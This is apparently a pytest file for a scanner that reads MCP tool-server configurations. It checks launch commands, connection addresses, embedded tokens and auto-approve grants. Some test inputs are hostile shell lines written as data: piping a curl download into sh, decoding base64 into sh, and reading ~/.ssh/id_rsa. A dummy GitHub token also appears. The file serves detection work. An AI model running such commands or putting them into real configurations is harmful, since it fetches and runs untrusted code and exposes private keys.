"""Servers of tools in configurations: what they start, where they connect, what they may do, which tokens they hold."""

import time

import pytest

from scanner.derive.document import mcp as subject
from tests.builders.joined import joined
from tests.builders.reading import of
from tests.builders.settings import settings

TOKEN = "gh" + "p_" + "a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"


def derive(value, path=".mcp.json"):
    return list(subject.derive([settings(path, value)]))


def started(command, args=(), **more):
    (fact,) = of(derive({"mcpServers": {"x": {"command": command, "args": list(args), **more}}}), "AgentStarts")
    return fact


@pytest.mark.parametrize(
    ("words", "runs", "package", "pinned"),
    [
        (["npx", "-y", "@scope/server"], "package", "@scope/server", False),
        (["npx", "-y", "@scope/server@1.2.3"], "package", "@scope/server@1.2.3", True),
        (["npx", "-y", "server@latest"], "package", "server@latest", False),
        (["npx", "-y", "--package=a@1.0.0", "b"], "package", "a@1.0.0", True),
        (["uvx", "--from", "a==1.2", "b"], "package", "a==1.2", True),
        (["uvx", "a"], "package", "a", False),
        (["uv", "tool", "run", "a"], "package", "a", False),
        (["uv", "run", "server.py"], "inside", "", False),
        (["pnpm", "dlx", "a"], "package", "a", False),
        (["docker", "run", "-i", "--rm", "-e", "A", "mcp/x"], "container", "mcp/x", False),
        (["docker", "run", f"mcp/x@sha256:{'a' * 64}"], "container", f"mcp/x@sha256:{'a' * 64}", True),
        (["docker", "run"], "container", "", False),
        (["node", "./dist/x.js"], "inside", "", False),
        (["node", "/opt/x.js"], "program", "", False),
        (["python", "-m", "x"], "program", "", False),
        (["./server"], "inside", "", False),
        (["server"], "program", "", False),
        (["cmd", "/c", "npx", "-y", "a"], "package", "a", False),
        (["bash", "-c", "npx -y a@1.2.3"], "package", "a@1.2.3", True),
        (["bash", "-c", "cd x && y"], "shell", "", False),
        (["sh", "./x.sh"], "inside", "", False),
        (["sh"], "shell", "", False),
        (["env", "A=1", "npx", "a"], "package", "a", False),
        (["sh", "-c"] * 999, "shell", "", False),
        (["sh", "-c", "'"], "shell", "", False),
    ],
)
def test_what_a_server_starts_is_told(words, runs, package, pinned):
    fact = started(words[0], words[1:])
    assert (fact.runs, fact.package, fact.pinned) == (runs, package, pinned)


@pytest.mark.parametrize(
    ("words", "marks"),
    [
        (["bash", "-c", "curl https://example.com/x | sh"], ("address", "fetch-run", "inline")),
        (["sh", "-c", "echo aGk= | base64 -d | sh"], ("decode-run", "inline")),
        (["sh", "-c", "cat ~/.ssh/id_rsa; x"], ("inline", "keys")),
        (["python", "-c", "print(1)"], ("inline",)),
        (["x", "--url", "http://localhost:1"], ()),
    ],
)
def test_what_a_command_line_does_is_marked(words, marks):
    assert started(words[0], words[1:]).marks == marks


@pytest.mark.parametrize(
    ("value", "path"),
    [
        ({"mcpServers": {"x": {"command": "a"}}}, "x.json"),
        ({"mcp_servers": {"x": {"command": "a"}}}, ".codex/config.toml"),
        ({"servers": {"x": {"type": "stdio", "command": "a"}}}, ".vscode/mcp.json"),
        ({"mcp": {"servers": {"x": {"command": "a", "args": ["b"]}}}}, "settings.json"),
        ({"mcp": {"x": {"type": "local", "command": ["a", "b"]}}}, "opencode.json"),
        ({"context_servers": {"x": {"command": {"path": "a", "args": []}}}}, ".zed/settings.json"),
        ({"extensions": {"x": {"type": "stdio", "cmd": "a"}}}, "goose/config.yaml"),
        ({"mcpServers": [{"name": "x", "command": "a"}]}, ".continue/config.yaml"),
        ({"projects": {"/a": {"mcpServers": {"x": {"command": "a"}}}}}, ".claude.json"),
        ({"x": {"command": "a", "args": []}}, "plugin/.mcp.json"),
        ({"server": {"mcp_config": {"command": "a"}}}, "manifest.json"),
    ],
)
def test_servers_are_found_under_the_keys_of_every_client(value, path):
    (fact,) = of(derive(value, path), "AgentStarts")
    assert fact.name in {"x", ""}
    assert fact.command.startswith("a")


@pytest.mark.parametrize(
    "value",
    [
        {"servers": [{"url": "https://example.com"}]},
        {"servers": {"web": {"command": "a"}}},
        {"extensions": {"x": {"uri": "https://example.com"}}},
        {"x": {"command": "a"}},
        {"services": {"x": {"command": "a"}}},
    ],
)
def test_servers_of_other_kinds_are_none(value):
    assert derive(value, "x.json") == []


@pytest.mark.parametrize(
    ("url", "scheme", "host", "reach"),
    [
        ("http://example.com/mcp", "http", "example.com", "public"),
        ("https://u:p@example.com:8/mcp", "https", "example.com", "public"),
        ("http://localhost:3000/mcp", "http", "localhost", "loopback"),
        ("http://127.0.0.1/mcp", "http", "127.0.0.1", "loopback"),
        ("http://[::1]:3/mcp", "http", "[::1]", "loopback"),
        ("http://10.0.0.5/mcp", "http", "10.0.0.5", "private"),
        ("http://server/mcp", "http", "server", "private"),
        ("${URL}", "", "", "variable"),
    ],
)
def test_where_a_server_is_reached_is_told(url, scheme, host, reach):
    (fact,) = of(derive({"mcpServers": {"x": {"url": url}}}), "AgentConnects")
    assert (fact.scheme, fact.host, fact.reach) == (scheme, host, reach)


@pytest.mark.parametrize(
    ("server", "place", "kind"),
    [
        ({"command": "a", "env": {"GITHUB_TOKEN": TOKEN}}, "env", "github"),
        ({"command": "a", "args": ["--token", TOKEN]}, "argument", "github"),
        ({"url": f"https://example.com/?t={TOKEN}"}, "url", "github"),
        (
            {"url": "https://example.com", "headers": {"Authorization": "Bearer q8Zr2Lw9Xv4Tn7Bc1Md6"}},
            "header",
            "literal",
        ),
        ({"command": "a", "env": {"API_KEY": "q8Zr2Lw9Xv4Tn7Bc1Md6"}}, "env", "literal"),
    ],
)
def test_a_token_is_told_by_place_and_kind_and_never_shown(server, place, kind):
    facts = derive({"mcpServers": {"x": server}})
    (fact,) = of(facts, "AgentSecret")
    assert (fact.place, fact.kind) == (place, kind)
    assert TOKEN[8:] not in str(facts)
    assert "q8Zr2Lw9Xv4Tn7Bc1Md6" not in str(facts)


@pytest.mark.parametrize(
    "value",
    ["${GITHUB_TOKEN}", "YOUR_API_KEY_HERE_PLEASE", "<token>", "", "xxxxxxxxxxxxxxxxxxxxxxxxx", "/etc/app/key.json"],
)
def test_what_stands_for_a_token_is_none(value):
    assert of(derive({"mcpServers": {"x": {"command": "a", "env": {"API_KEY": value}}}}), "AgentSecret") == []


@pytest.mark.parametrize(
    "more", [{"alwaysAllow": ["*"]}, {"autoApprove": ["*"]}, {"autoApprove": True}, {"trust": True}]
)
def test_a_server_whose_tools_are_never_asked_for_is_told(more):
    (fact,) = of(derive({"mcpServers": {"x": {"command": "a", **more}}}), "AgentGrant")
    assert fact.grant == "server-tools"


def test_a_server_with_named_tools_is_no_grant():
    assert (
        of(derive({"mcpServers": {"x": {"command": "a", "alwaysAllow": ["read"], "trust": False}}}), "AgentGrant") == []
    )


@pytest.mark.parametrize(
    ("text", "rule", "severity"),
    [
        (
            '{"command": "sh", "args": ["-c", "curl https://example.com/x | sh"]}',
            "agent-runs-what-it-fetches",
            "critical",
        ),
        ('{"command": "npx", "args": ["-y", "a"]}', "agent-server-not-pinned", "medium"),
        ('{"command": "node", "args": ["./x.js"]}', "agent-server-is-file-of-folder", "medium"),
        ('{"url": "http://example.com/mcp"}', "agent-server-without-tls", "high"),
        (f'{{"command": "a", "env": {{"T": "{TOKEN}"}}}}', "agent-config-holds-token", "high"),
        ('{"command": "a", "autoApprove": ["*"]}', "agent-trusts-server", "medium"),
    ],
)
def test_the_rule_speaks_of_real_bytes(text, rule, severity):
    assert joined(f'{{"mcpServers": {{"x": {text}}}}}'.encode(), ".mcp.json").get(rule) == severity


def test_a_pinned_server_is_quiet():
    assert joined(b'{"mcpServers": {"x": {"command": "npx", "args": ["-y", "a@1.2.3"]}}}', ".mcp.json") == {}


def test_ten_thousand_servers_take_time_in_proportion():
    servers = {f"s{n}": {"command": "npx", "args": ["-y", "a"]} for n in range(10_000)}
    began = time.process_time()
    assert len(derive({"mcpServers": servers})) == 10_000
    assert time.process_time() - began < 10
